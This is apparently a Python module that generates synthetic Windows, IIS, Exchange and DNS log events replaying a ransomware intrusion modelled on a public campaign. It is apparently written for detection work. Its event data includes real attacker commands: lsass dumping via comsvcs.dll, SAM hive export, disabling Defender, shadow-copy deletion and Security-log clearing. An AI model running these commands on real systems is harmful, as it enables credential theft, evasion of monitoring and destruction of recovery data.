"""The attack: fourteen months of a real campaign's steps, told in five invented days.

The steps follow what is public about the campaign of 2021-2022 against Albania (ATT&CK campaign C0038): web shell on a
SharePoint server, a mail account taken over, mailboxes searched, credentials dumped, remote desktop to the print
server, protection switched off, shadow copies deleted, files renamed. Names, addresses, hashes and times are invented.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta

from examples.synthetic import windows as win
from examples.synthetic.lines import Message, Request
from examples.synthetic.windows import SYSTEM, W3WP, WindowsEvent
from examples.synthetic.world import (
    CONTROL,
    CONTROL_NAME,
    DC,
    FILES,
    MADE,
    MAIL,
    OPERATOR,
    PORTAL,
    PRINT,
    STAFF,
    TAKEN,
    TUNNEL_ZONE,
    ZONE,
    Host,
    at,
    digest,
)

LAYOUTS = "/_layouts/15/"
SHELL = f"{LAYOUTS}pickers.aspx"
HIVE = "C:\\Program Files\\Common Files\\microsoft shared\\Web Server Extensions\\15\\TEMPLATE\\LAYOUTS\\"
POOL = "IIS APPPOOL\\SharePoint - 443"
STAGE = "C:\\ProgramData\\Microsoft\\Windows\\"
DESKTOP = "HKU\\S-1-5-21-1004336348-1177238915-682003330-500\\Control Panel\\Desktop\\"
DEFENDER_POLICY = "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware"
ADMIN = "MINISTRY\\Administrator"


def portal_requests() -> Iterator[Request]:
    """Monday and Tuesday, IIS of PORTAL01: the hole, the web shell and its use."""
    agent = "python-requests/2.25.1"
    yield Request(at(1, "21:02:07"), OPERATOR, "POST", f"{LAYOUTS}Picker.aspx", "PickerDialogType=ItemPicker", agent=agent, status=200)
    for number in range(14):
        yield Request(at(1, "21:04:30", 95 * number), OPERATOR, "POST", SHELL, agent=agent, sent=900 + 31 * number, received=2048)
    for number in range(6):
        relay = f"{LAYOUTS}ClientBin.aspx"
        yield Request(at(2, "20:10:00", 20 * number), OPERATOR, "POST", relay, agent=agent, sent=18_300, received=40_960)


def portal_events() -> Iterator[WindowsEvent]:
    """Monday and Tuesday, Sysmon of PORTAL01: what the web shell wrote, started and reached."""
    yield win.file_created(at(1, "21:02:09"), PORTAL, POOL, W3WP, f"{HIVE}pickers.aspx")
    for after, command in ((35, "whoami /all"), (130, "ipconfig /all"), (225, 'net group "Domain Admins" /domain')):
        yield win.process(at(1, "21:04:30", after), PORTAL, POOL, W3WP, "cmd.exe", f'cmd.exe /c "{command}"')
    yield win.process(at(1, "21:04:30", 226), PORTAL, POOL, "cmd.exe", "net.exe", 'net group "Domain Admins" /domain')
    yield win.file_created(at(2, "20:09:40"), PORTAL, POOL, W3WP, f"{HIVE}ClientBin.aspx")
    yield win.script(at(2, "20:09:58"), PORTAL, "[Reflection.Assembly]::LoadFile('C:\\ProgramData\\App_Web_relay.dll')")
    for number, host in enumerate((DC, PRINT, FILES)):
        yield win.connection(at(2, "20:10:05", 20 * number), PORTAL, POOL, W3WP, host.address, 3389)
    yield win.process(
        at(2, "20:15:00"),
        PORTAL,
        POOL,
        "cmd.exe",
        "C:\\Users\\Public\\advanced_port_scanner.exe",
        "advanced_port_scanner.exe /portable /lng en_us",
    )
    yield win.connection(at(2, "20:16:10"), PORTAL, POOL, "C:\\Users\\Public\\update.exe", CONTROL, 443)


def mail_events() -> Iterator[WindowsEvent]:
    """Wednesday, management log of MAIL01: rights for the account that was taken over, and a search for administrators."""
    yield win.cmdlet(at(3, "01:12:41"), MAIL, TAKEN, "Get-Recipient", "-ResultSize Unlimited")
    yield win.cmdlet(at(3, "01:20:02"), MAIL, TAKEN, "New-ManagementRoleAssignment", f"-Role ApplicationImpersonation -User {TAKEN}")
    yield win.cmdlet(at(3, "01:22:47"), MAIL, TAKEN, "Add-RoleGroupMember", f'-Identity "Organization Management" -Member {MADE}')
    query = '-Name "s1" -SourceMailboxes arta,besnik,vera -SearchQuery "password OR admin" -EstimateOnly $false'
    yield win.cmdlet(at(3, "01:31:15"), MAIL, TAKEN, "New-MailboxSearch", query)


def mail_requests() -> Iterator[Request]:
    """Wednesday, IIS of MAIL01: mail leaves by many small posts to the web services."""
    for number in range(45):
        agent = "ExchangeServicesClient/15.00.0913.015"
        when = at(3, "01:45:00", 9 * number)
        yield Request(when, OPERATOR, "POST", "/ews/exchange.asmx", user=f"MINISTRY\\{TAKEN}", agent=agent, sent=90_000 + 777 * number)


def mail_messages() -> Iterator[Message]:
    """Wednesday, message tracking of MAIL01: one mail with a request that nobody made."""
    yield Message(at(3, "06:58:12"), OPERATOR, f"helpdesk@{CONTROL_NAME}", f"vera@{ZONE}", "Please confirm your password", 48_112)


def domain_events() -> Iterator[WindowsEvent]:
    """Tuesday to Thursday, Security log of DC01: guessed passwords, a new account, a stronger group."""
    for number in range(24):
        yield win.failed_logon(at(2, "20:20:00", 5 * number), DC, STAFF[number % len(STAFF)], PORTAL.address)
    yield win.logon(at(2, "20:22:04"), DC, TAKEN, PORTAL.address)
    yield win.account_created(at(4, "00:41:10"), DC, MADE, TAKEN)
    yield win.member_added(at(4, "00:41:55"), DC, MADE, "Domain Admins", "S-1-5-21-1004336348-1177238915-682003330-512", TAKEN)


def domain_sysmon() -> Iterator[WindowsEvent]:
    """Thursday, Sysmon of DC01: commands through WMI, and credentials taken."""
    shell = "cmd.exe /Q /c net user svc-print2 * /add /domain 1> \\\\127.0.0.1\\ADMIN$\\__1773190860.11 2>&1"
    yield win.process(at(4, "00:41:08"), DC, f"MINISTRY\\{TAKEN}", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "cmd.exe", shell)
    yield win.process(at(4, "00:41:09"), DC, f"MINISTRY\\{TAKEN}", "cmd.exe", "net.exe", "net user svc-print2 * /add /domain")
    dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 648 C:\\ProgramData\\l.dat full"
    yield win.process(at(4, "00:52:30"), DC, f"MINISTRY\\{MADE}", "cmd.exe", "rundll32.exe", dump)
    yield win.process_access(at(4, "00:52:31"), DC, "C:\\Windows\\System32\\rundll32.exe", "lsass.exe", "0x1fffff")
    yield win.process(at(4, "00:55:12"), DC, f"MINISTRY\\{MADE}", "cmd.exe", "reg.exe", "reg save HKLM\\SAM C:\\ProgramData\\s.dat")


def print_events() -> Iterator[WindowsEvent]:
    """Friday night, PRINT01: remote desktop, protection off, the encryptor is started, the log is cleared."""
    yield win.logon(at(5, "02:03:17"), PRINT, "Administrator", PORTAL.address, kind=10)
    off = "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true"
    yield win.process(at(5, "02:06:00"), PRINT, ADMIN, "cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", off)
    yield win.registry_set(at(5, "02:06:20"), PRINT, ADMIN, "C:\\Windows\\System32\\reg.exe", DEFENDER_POLICY, "DWORD (0x00000001)")
    yield win.file_created(at(5, "02:10:02"), PRINT, ADMIN, f"{STAGE}spread.exe", f"{STAGE}docenc.exe")
    yield win.process(at(5, "02:14:00"), PRINT, ADMIN, f"{STAGE}spread.exe", f"{STAGE}docenc.exe", f"{STAGE}docenc.exe 1 2 3 4 5 6 7")
    yield win.process(at(5, "02:14:03"), PRINT, SYSTEM, f"{STAGE}docenc.exe", "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet")
    yield from _renamed(PRINT, "C:\\Spool\\forms\\form", at(5, "02:14:05"), 8)
    wallpaper = f"{STAGE}docenc.jpg"
    yield win.registry_set(at(5, "02:16:30"), PRINT, ADMIN, "C:\\Windows\\System32\\reg.exe", f"{DESKTOP}Wallpaper", wallpaper)
    show = "RUNDLL32.EXE user32.dll,UpdatePerUserSystemParameters"
    yield win.process(at(5, "02:16:31"), PRINT, ADMIN, "cmd.exe", "rundll32.exe", show)
    yield win.driver(at(5, "02:20:44"), PRINT, "C:\\Windows\\System32\\drivers\\rwdsk.sys")
    yield win.process(at(5, "02:29:58"), PRINT, ADMIN, "cmd.exe", "wevtutil.exe", "wevtutil.exe cl Security")
    yield win.log_cleared(at(5, "02:29:59"), PRINT, "Administrator")


def files_events() -> Iterator[WindowsEvent]:
    """Friday night, FILES01: the same program comes by a share and renames what it finds."""
    yield win.logon(at(5, "02:13:40"), FILES, "Administrator", PRINT.address)
    yield win.process(at(5, "02:14:20"), FILES, ADMIN, "services.exe", f"{STAGE}docenc.exe", f"{STAGE}docenc.exe 1 2 3 4 5 6 7")
    yield win.process(at(5, "02:14:22"), FILES, SYSTEM, f"{STAGE}docenc.exe", "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet")
    yield from _renamed(FILES, "D:\\Shares\\finance\\report", at(5, "02:14:30"), 48)


def _renamed(host: Host, stem: str, start: datetime, count: int) -> Iterator[WindowsEvent]:
    for number in range(count):
        path = f"{stem}-{number:03d}.docx.lck"
        yield win.file_created(start + timedelta(milliseconds=410 * number), host, SYSTEM, f"{STAGE}docenc.exe", path)


def tunnel_names() -> Iterator[tuple[datetime, str]]:
    """Tuesday to Friday, DNS: data leave in long names, one every few minutes."""
    for number in range(16):
        label = digest(f"tunnel {number}")[:52]
        yield at(2, "20:30:00", 420 * number), f"{label}.{TUNNEL_ZONE}"
